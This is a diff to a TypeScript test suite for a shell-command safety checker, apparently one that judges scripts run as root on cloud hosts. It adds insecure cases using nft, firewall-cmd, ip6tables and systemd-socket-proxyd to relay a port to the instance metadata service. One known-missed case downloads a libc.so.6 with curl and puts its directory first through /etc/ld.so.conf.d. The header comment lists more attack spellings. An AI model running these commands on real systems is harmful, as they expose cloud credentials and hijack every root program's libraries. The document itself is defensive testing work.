@@ -7,18 +7,19 @@
 // LD_PRELOAD=, init=, systemd.run=, /usr/lib/kernel/cmdline, install.d plugins, a quoted whole word); sshd
 // (AuthorizedKeysCommand root, sshrc, PermitUserEnvironment); root's other startup files (.bashrc.d, .bash_login, fish
 // config/vendor_conf.d, .tcshrc); crontab/at/anacrontab IMDS relays; readers the unknown-editor rule refuses.
-// Misses (12 insecure, 11 secure):
+// Misses (13 insecure, 11 secure):
 // - UNKNOWN-EDITOR-REACH (8: U1, U2, U3, U4, U5, U6, U11, U17): rootReads.ts unknownEditor sees only absolute (or
 //   dotted relative) operands: resolve bare relative words, -C dirs, NAME=/path prefixes, stuck `-f/path`, stdin
 //   heredocs of command readers (augtool/ex), patch's own names (fail closed), writes through symlinks.
 // - IN-PLACE (2: U15, I7): sed -i -f of an unread script; `busybox sed -i` (applets not mapped for readers).
 // - KERNEL-WORDS (2: K1, K6): a dot-free NAME=VALUE word is init's environment (LD_PRELOAD into PID 1); a wholly
 //   double-quoted word is unquoted by the kernel and systemd.
+// - LD-SO-CONF (1, lower priority: R4): /etc/ld.so.conf.d adding /opt/lib (a downloaded libc.so.6) before /lib64.
 // - READER-OVER-REFUSAL (secure, 10: S22-S28, S30-S32): lsattr, od/xxd, strings/hexdump, namei, rpm -q/-V, awk without
 //   -i, tar -c to /root, inotifywait, vim -R +q, setfattr are refused as unknown editors: extend CONTENT_KEEPERS.
 // - ROOT-BASHRC.D (secure, 1: S11): /root/.bashrc.d/* (sourced by Fedora's .bashrc) fails closed even for LANG.
-// Held (insecure refused 29 of 41): $VAR paths, xargs, find -exec, mount --bind, exec 3>>, ../ and // paths, pushd,
-// vim -Es, perl/ruby/gawk/sed --in-place spellings, init=, /usr/lib/kernel/cmdline, systemd.run= and install.d
+// Held (insecure refused 33 of 46): nft/firewall-cmd/ip6tables DNAT and systemd-socket-proxyd relays to IMDS, $VAR
+// paths, xargs, find -exec, mount --bind, exec 3>>, ../ and // paths, pushd, vim -Es, perl/ruby/gawk/sed --in-place spellings, init=, /usr/lib/kernel/cmdline, systemd.run= and install.d
 // plugins running an IMDS relay, AuthorizedKeysCommand, sshrc, ~/.ssh/environment, root's other shells' startup
 // files, crontab -/at/anacrontab relays.
 // Secure clean 21 of 32. Left as consistent, not misses (S15-S21): cron/at/anacrontab/systemd.run=/install.d/rpm/dnf
@@ -377,6 +378,73 @@ const insecure: NodeCase[] = [
             "echo '1 5 ops socat TCP-LISTEN:8080,fork,reuseaddr TCP:169.254.169.254:80' >> /etc/anacrontab",
         ]),
         /instance metadata|relay|socat|unknown/i,
+    ),
+    // ---- IMDS reach and loader paths (other spellings) ----
+    devNodeCase(
+        "R1 nft DNAT of port 8080 to IMDS with masquerade",
+        devNodeScript(n("r1"), [
+            "sysctl -w net.ipv4.ip_forward=1",
+            "nft add table ip ops",
+            "nft 'add chain ip ops pre { type nat hook prerouting priority -100; }'",
+            "nft 'add chain ip ops post { type nat hook postrouting priority 100; }'",
+            "nft add rule ip ops pre tcp dport 8080 dnat to 169.254.169.254:80",
+            "nft add rule ip ops post ip daddr 169.254.169.254 masquerade",
+        ]),
+        /instance metadata|169\.254|relay|proxy|forward|DNAT|unknown|cannot/i,
+    ),
+    devNodeCase(
+        "R2 firewall-cmd forward port to IMDS",
+        devNodeScript(n("r2"), [
+            "firewall-cmd --permanent --add-masquerade",
+            "firewall-cmd --permanent --add-forward-port=port=8080:proto=tcp:toport=80:toaddr=169.254.169.254",
+            "firewall-cmd --reload",
+        ]),
+        /instance metadata|169\.254|relay|proxy|forward|DNAT|unknown|cannot/i,
+    ),
+    devNodeCase(
+        "R3 systemd-socket-proxyd to IMDS behind a .socket on 0.0.0.0:8080",
+        devNodeScript(n("r3"), [
+            ...file("/etc/systemd/system/imds-proxy.socket", [
+                "[Socket]",
+                "ListenStream=0.0.0.0:8080",
+                "[Install]",
+                "WantedBy=sockets.target",
+            ]),
+            ...file("/etc/systemd/system/imds-proxy.service", [
+                "[Service]",
+                "ExecStart=/usr/lib/systemd/systemd-socket-proxyd 169.254.169.254:80",
+            ]),
+            "systemctl daemon-reload",
+            "systemctl enable --now imds-proxy.socket",
+        ]),
+        /instance metadata|169\.254|relay|proxy|forward|DNAT|unknown|cannot/i,
+    ),
+    // MISS: ld.so(8) "the libraries are searched ... in the cache file /etc/ld.so.cache", which ldconfig(8) builds from "the
+    // directories specified ... in the file /etc/ld.so.conf, and in the trusted directories (/lib and /usr/lib)", conf
+    // directories first (lower priority: verify the cache order on AL2023's glibc): a downloaded libc.so.6 in /opt/lib is
+    // then loaded by every dynamically linked root program, as an /etc/ld.so.preload entry is (refused: U7-U13).
+    // Accepted (got []): /etc/ld.so.conf.d writes are not judged as loader configuration. Fix: judge /etc/ld.so.conf(.d)
+    // directories as loader paths (only root-owned system library directories, as PATH's rule).
+    miss(
+        devNodeCase(
+            "R4 /etc/ld.so.conf.d directory first in the cache with a downloaded libc.so.6",
+            devNodeScript(n("r4"), [
+                "mkdir -p /opt/lib",
+                "curl -fsSL -o /opt/lib/libc.so.6 https://downloads.example.com/libc.so.6",
+                "echo /opt/lib > /etc/ld.so.conf.d/00-ops.conf",
+                "ldconfig",
+            ]),
+            LOADER,
+        ),
+    ),
+    devNodeCase(
+        "R5 ip6tables DNAT to the IPv6 IMDS address fd00:ec2::254",
+        devNodeScript(n("r5"), [
+            "sysctl -w net.ipv6.conf.all.forwarding=1",
+            "ip6tables -t nat -A PREROUTING -p tcp --dport 8080 -j DNAT --to-destination [fd00:ec2::254]:80",
+            "ip6tables -t nat -A POSTROUTING -d fd00:ec2::254 -j MASQUERADE",
+        ]),
+        /instance metadata|169\.254|relay|proxy|forward|DNAT|unknown|cannot/i,
     ),
 ];
 
